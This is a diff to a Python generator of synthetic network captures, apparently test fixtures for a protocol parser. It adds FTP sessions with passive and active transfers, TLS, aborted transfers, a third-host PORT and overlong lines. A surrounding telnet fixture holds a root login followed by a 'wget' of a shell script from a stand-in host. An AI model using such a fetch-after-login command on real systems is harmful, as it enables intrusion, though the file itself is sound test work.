@@ -114,6 +114,51 @@ def telnet():
 		(0, b'\xff\xfa\x18\x00xterm\xff\xf0root\r\0'), (1, b'\r\n# '), (0, b'wget http://192.0.2.9/a.sh\r\n'), (1, b'bye\r\n')])
 
 
+class Transfers(Session):
+	"""An FTP session whose data connections lie where they begin and end."""
+
+	def login(self):
+		return self.talk(b'220 (ready)', b'USER anna', b'331 password', b'PASS x', b'230 in')
+
+	def talk(self, *lines):
+		"""Lines of server and client in turn, the greeting first or an empty one in its place."""
+		for i, line in enumerate(lines):
+			if line:
+				self.say(1 - i % 2, line + b'\r\n')
+		return self
+
+	def data(self, port, active=False):
+		ends = ('192.168.1.2', '10.0.0.1', 20) if active else ('10.0.0.1', '192.168.1.2', 46000 + len(self.frames))
+		connection = Session(port, client=ends[0], server=ends[1], sport=ends[2])
+		connection.frames = self.frames
+		return connection.open()
+
+	def passive(self, command, side, content):
+		self.talk(b'', b'PASV', b'227 Entering Passive Mode (192,168,1,2,195,80).')
+		connection = self.data(50000)
+		self.talk(b'', command, b'150 opening')
+		connection.say(side, content).close()
+		return self.talk(b'226 done')
+
+
+def ftp():
+	"""Files in both directions, announced in all four ways; TLS; a port of another host; lines that are too long."""
+	s = Transfers(21, sport=47000).open().login()
+	s.passive(b'RETR a.txt', 1, NUMBERS[:20000]).passive(b'STOR up/b.bin', 0, bytes(range(256)) * 9)
+	s.passive(b'APPE c.log', 0, b'more').passive(b'RETR page', 1, OK)
+	s.talk(b'', b'PORT 10,0,0,1,200,10', b'200 ok', b'RETR d.gz')
+	s.data(51210, True).say(0, gzip.compress(NUMBERS, mtime=0)).close()
+	s.talk(b'150-opening\r\n150 it\r\n226 done', b'EPSV', b'229 ok (|||50001|)', b'STOU')
+	s.data(50001).say(0, b'cut off').send(1, RST | ACK)
+	s.talk(b'426 aborted', b'EPRT |1|10.0.0.1|51211|', b'200 ok', b'STOR e')
+	s.data(51211, True).say(1, b'as it goes').close()
+	s.talk(b'226 done', b'PORT 10,9,9,9,1,1', b'200 ok', b'MKD ' + b'a' * 5000, b'550 ' + b'b' * 5000, b'QUIT', b'221 bye')
+	tls = Transfers(21, sport=47001).open().talk(b'220 (x)', b'AUTH TLS', b'234 go').say(0, HELLO).say(1, b'\x15\3\1\0\2\2\x28')
+	wait = Transfers(21, sport=47002).open().login().talk(b'', b'PASV', b'227 (192,168,1,2,195,80)', b'RETR open')
+	wait.data(50000).say(1, b'without an end')
+	return 1, s.close() + tls.close() + wait.frames
+
+
 UNESCAPE = re.compile(rb'\\(?:x([0-9a-fA-F]{2})|(.))', re.S)
 
 
@@ -272,7 +317,7 @@ def anomalies():
 
 
 CAPTURES = {f.__name__: f for f in (http_plain, http_pipelined, http_bodies, http_uploads,
-	http_nameless, http_malformed, http_connect, dns, telnet,
+	http_nameless, http_malformed, http_connect, dns, telnet, ftp,
 	tcp_disorder, tcp_options, tcp_interleaved, tcp_over_ipv6, ip_fragments, tunnels, links, link_raw, link_sll, link_null,
 	icmp_errors, malformed, scan, anomalies)}
 CAPTURES.update({'examples_' + p: examples(p) for p in sorted(os.listdir(os.path.join(ROOT, 'dataplane/app')))
